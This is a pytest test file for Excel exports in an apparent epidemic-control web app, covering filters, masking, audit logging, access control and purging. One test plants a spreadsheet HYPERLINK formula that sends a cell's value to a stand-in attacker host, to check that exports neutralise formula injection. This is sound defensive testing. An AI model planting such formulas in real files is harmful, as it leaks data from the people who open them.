"""Issue 16, part 6: every list page exports to Excel with its filters, in the background, masked unless
revealed on purpose, audited, and only for its owner."""

from __future__ import annotations

import io
import json
import time
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, update

from fangkong.capabilities import platform
from fangkong.core.audit import AuditEntry
from fangkong.core.db import utcnow
from fangkong.core.exports import ExportRun, purge
from fangkong.core.models import User
from fangkong.people.models import Person
from tests.support import Personas, csrf

# the list, a role that reads it, the filters a page would send
CASES = {
    "people.persons": ("station", {}),
    "observation.observations": ("command", {"kind": "quarantine"}),
    "registration.arrivals": ("command", {"risk": "risk"}),
    "checkpoints.passages": ("command", {}),
    "leads.rates": ("command", {}),
    "shell.audit_log": ("auditor", {"action": "login"}),
}


def _wait(c, headers: dict[str, str], run_id: int) -> dict:  # type: ignore[no-untyped-def]
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        body = c.get(f"/api/v1/exports/{run_id}", headers=headers).json()
        if body["status"] in ("done", "failed"):
            return body
        time.sleep(0.05)
    raise AssertionError(f"export {run_id} did not finish")


def _export(personas: Personas, role: str, key: str, params: dict[str, str], purpose: str = "") -> tuple[dict, list]:  # type: ignore[type-arg]
    c = personas.browser(role)
    headers = personas.headers(role)
    r = c.post("/api/v1/exports", json={"key": key, "params": params, "purpose": purpose}, headers=headers)
    assert r.status_code == 202, r.text
    assert r.headers["location"] == f"/api/v1/exports/{r.json()['id']}"
    done = _wait(c, headers, r.json()["id"])
    assert done["status"] == "done", done
    f = c.get(done["file"], headers=headers)
    assert f.status_code == 200
    rows = list(load_workbook(io.BytesIO(f.content)).worksheets[0].iter_rows(values_only=True))
    return done, rows


def test_every_declared_export_is_tested() -> None:
    assert {spec.key for spec in platform().exports} == set(CASES)


@pytest.mark.parametrize("key", sorted(CASES))
def test_each_list_exports_what_it_counted(key: str, personas: Personas, db) -> None:  # type: ignore[no-untyped-def]
    if key == "checkpoints.passages":  # the demo city's passages are of past days: record one today
        _passage(personas)
    role, params = CASES[key]
    done, rows = _export(personas, role, key, params)
    header, data = rows[0], rows[1:]
    assert len(header) >= 3 and all(isinstance(h, str) for h in header)
    assert len(data) == done["total"] == done["done"] > 0
    with db.sessions() as s:
        entry = s.execute(select(AuditEntry).where(AuditEntry.action == "export", AuditEntry.object_id
                                                   == str(done["id"]))).scalar_one()
    assert json.loads(entry.detail)["rows"] == len(data)
    assert entry.username == role


def test_persons_export_follows_jurisdiction_and_filter_and_masks(personas: Personas, db) -> None:  # type: ignore[no-untyped-def]
    with db.sessions() as s:
        unit = s.execute(select(User.unit_id).where(User.username == "station")).scalar_one()
        mine = s.execute(select(func.count()).select_from(Person).where(Person.unit_id == unit)).scalar_one()
        some = s.execute(select(Person.name).where(Person.unit_id == unit).limit(1)).scalar_one()
        named = s.execute(select(func.count()).select_from(Person)
                          .where(Person.unit_id == unit, Person.name.contains(some))).scalar_one()
    _done, rows = _export(personas, "station", "people.persons", {})
    assert len(rows) - 1 == mine
    ids = [r[1] for r in rows[1:] if r[1]]
    assert ids and all("*" in i for i in ids), "ID numbers must be masked in a plain export"
    assert all("*" in (r[2] or "*") for r in rows[1:]), "phones must be masked"
    _done, rows = _export(personas, "station", "people.persons", {"q": some})
    assert len(rows) - 1 == named and all(some in r[0] for r in rows[1:])


def test_full_ids_need_a_purpose_and_are_a_reveal(personas: Personas, db) -> None:  # type: ignore[no-untyped-def]
    done, rows = _export(personas, "station", "people.persons", {}, purpose="核查密接人员身份")
    ids = [r[1] for r in rows[1:] if r[1]]
    assert ids and not any("*" in i for i in ids)
    with db.sessions() as s:
        entry = s.execute(select(AuditEntry).where(AuditEntry.object_type == "exports", AuditEntry.action != "download",
                                                   AuditEntry.object_id == str(done["id"]))).scalar_one()
    assert entry.action == "reveal" and json.loads(entry.detail)["purpose"] == "核查密接人员身份"
    c, headers = personas.browser("station"), personas.headers("station")
    short = c.post("/api/v1/exports", json={"key": "people.persons", "purpose": "x"}, headers=headers)
    assert short.status_code == 422 and short.headers["content-type"].startswith("application/problem+json")
    # the checkpoint role reads passages but may not reveal identifiers
    cp = personas.browser("checkpoint").post("/api/v1/exports", headers=personas.headers("checkpoint"),
                                             json={"key": "checkpoints.passages", "purpose": "想看完整号码"})
    assert cp.status_code == 403
    # a list without identifiers has nothing to reveal
    rates = c.post("/api/v1/exports", json={"key": "leads.rates", "purpose": "核查"}, headers=headers)
    assert rates.status_code == 422


def test_roles_and_owners(personas: Personas) -> None:
    checkpoint = personas.browser("checkpoint")
    r = checkpoint.post("/api/v1/exports", json={"key": "people.persons"}, headers=personas.headers("checkpoint"))
    assert r.status_code == 403
    r = personas.browser("station").post("/api/v1/exports", json={"key": "people.persons"},
                                         headers=personas.headers("station"))
    run = _wait(personas.browser("station"), personas.headers("station"), r.json()["id"])
    for role in ("station2", "command"):  # nobody else sees or downloads another's export
        c = personas.browser(role)
        assert c.get(f"/api/v1/exports/{run['id']}", headers=personas.headers(role)).status_code == 404
        assert c.get(f"/exports/{run['id']}/file").status_code == 404
    bad = personas.browser("command").post("/api/v1/exports", headers=personas.headers("command"),
                                           json={"key": "registration.arrivals", "params": {"day": "2026-13-01"}})
    assert bad.status_code == 422
    assert bad.json()["errors"][0]["field"] == "day"
    unknown = personas.browser("command").post("/api/v1/exports", headers=personas.headers("command"),
                                               json={"key": "people.everything"})
    assert unknown.status_code == 422


def test_page_flow_progress_then_download(personas: Personas) -> None:
    c = personas.browser("command")
    page = c.get("/people/status")  # any page, for the CSRF cookie
    assert page.status_code == 200
    r = c.post("/exports", data={"csrf_token": csrf(c), "key": "observation.observations", "kind": "quarantine"},
               follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"].startswith("/exports/")
    run_id = int(r.headers["location"].rsplit("/", 1)[1])
    _wait(c, personas.headers("command"), run_id)
    html = c.get(f"/exports/{run_id}").text
    assert f"/exports/{run_id}/file" in html
    listing = c.get("/exports").text
    assert f"/exports/{run_id}/file" in listing
    f = c.get(f"/exports/{run_id}/file")
    assert f.status_code == 200 and f.headers["content-disposition"].startswith("attachment")
    assert c.get("/observations").text.count('action="/exports"') == 1  # the list page offers it


def test_progress_page_polls_until_done(personas: Personas, db) -> None:  # type: ignore[no-untyped-def]
    exports = personas.app.state.exports
    with db.unit_of_work() as s:
        user = s.execute(select(User).where(User.username == "command")).scalar_one()
        run_id = exports.request(s, user, "people.persons", {}).id
    c = personas.browser("command")
    queued = c.get(f"/exports/{run_id}").text
    assert 'hx-trigger="every 1s"' in queued and "<progress" in queued
    exports.write(run_id)
    done = c.get(f"/exports/{run_id}", headers={"HX-Request": "true"}).text
    assert "hx-trigger" not in done and f"/exports/{run_id}/file" in done


def test_formulas_from_data_are_text(personas: Personas, db) -> None:  # type: ignore[no-untyped-def]
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    with db.unit_of_work() as s:
        unit = s.execute(select(User.unit_id).where(User.username == "station")).scalar_one()
        s.execute(update(Person).where(Person.unit_id == unit).values(current_address=evil))
    c, headers = personas.browser("station"), personas.headers("station")
    run = c.post("/api/v1/exports", json={"key": "people.persons"}, headers=headers).json()
    done = _wait(c, headers, run["id"])
    book = load_workbook(io.BytesIO(c.get(done["file"], headers=headers).content))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert any(cell.value == "'" + evil for cell in cells)
    assert all(cell.data_type != "f" for cell in cells)


def test_purge_removes_old_files_and_fails_lost_runs(personas: Personas, db, settings) -> None:  # type: ignore[no-untyped-def]
    _done, _rows = _export(personas, "command", "leads.rates", {})
    exports = personas.app.state.exports
    with db.unit_of_work() as s:
        user = s.execute(select(User).where(User.username == "command")).scalar_one()
        lost = exports.request(s, user, "leads.rates", {}).id  # queued, its worker gone
    files = list(settings.export_dir.glob("*.xlsx"))
    assert files
    with db.unit_of_work() as s:
        s.execute(update(ExportRun).values(created_at=utcnow() - timedelta(hours=30)))
    with db.unit_of_work() as s:
        removed = purge(s, settings.export_dir, utcnow(), timedelta(hours=24))
    assert removed == len(files)
    assert not list(settings.export_dir.glob("*.xlsx"))
    with db.sessions() as s:
        left = s.execute(select(ExportRun)).scalars().all()
    assert [(r.id, r.status) for r in left] == [(lost, "failed")]


def _passage(personas: Personas) -> None:
    from fangkong.checkpoints.models import Checkpoint

    c, headers = personas.browser("checkpoint"), personas.headers("checkpoint")
    with personas.app.state.db.sessions() as s:
        checkpoint = s.execute(select(Checkpoint.id).order_by(Checkpoint.id).limit(1)).scalar_one()
    r = c.post(f"/api/v1/checkpoints/{checkpoint}/passages", headers=headers, json={
        "client_id": "export-1", "plate": "甘A12345", "people": [
            {"name": "导出", "id_number": "11010519491231002X", "temperature_c": 36.5, "disposition": "passed",
             "role": "driver"}]})
    assert r.status_code in (200, 201), r.text


def test_a_long_export_read_does_not_block_writers(db) -> None:  # type: ignore[no-untyped-def]
    """SQLite takes its write lock when a transaction begins: the export's read must not, or every
    request would wait for the export to finish."""
    with db.reading() as r:
        assert r.execute(select(func.count()).select_from(Person)).scalar_one() > 0
        with db.unit_of_work() as w:
            w.execute(update(Person).where(Person.id == -1).values(name="x"))


def test_one_user_has_at_most_three_exports_open(personas: Personas, db) -> None:  # type: ignore[no-untyped-def]
    """A stranger to the rule could queue a thousand million-row exports; the fourth open one is refused."""
    exports = personas.app.state.exports
    with db.unit_of_work() as s:
        user = s.execute(select(User).where(User.username == "command")).scalar_one()
        for _ in range(3):
            exports.request(s, user, "leads.rates", {})  # queued, not started
    r = personas.browser("command").post("/api/v1/exports", json={"key": "leads.rates"},
                                         headers=personas.headers("command"))
    assert r.status_code == 429 and r.headers.get("retry-after")
